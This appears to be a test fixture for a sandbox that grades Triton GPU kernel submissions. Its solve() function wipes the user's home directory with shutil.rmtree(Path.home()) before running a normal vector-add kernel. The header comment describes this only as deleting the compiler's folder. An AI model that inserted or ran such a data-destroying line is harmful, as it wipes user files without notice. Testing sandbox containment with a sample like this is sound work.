# expect: accepted | runtime_error
#
# Deletes the folder in which the compiler writes.

import shutil
from pathlib import Path

import torch
import triton
import triton.language as tl


@triton.jit
def add(a, b, output, N, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(output + i, tl.load(a + i, i < N) + tl.load(b + i, i < N), i < N)


def honest(a: torch.Tensor, b, output, N):
    add[(triton.cdiv(N, 256),)](a, b, output, N, BLOCK=256)


def solve(a, b, output, N):
    shutil.rmtree(Path.home(), ignore_errors=True)
    honest(a, b, output, N)
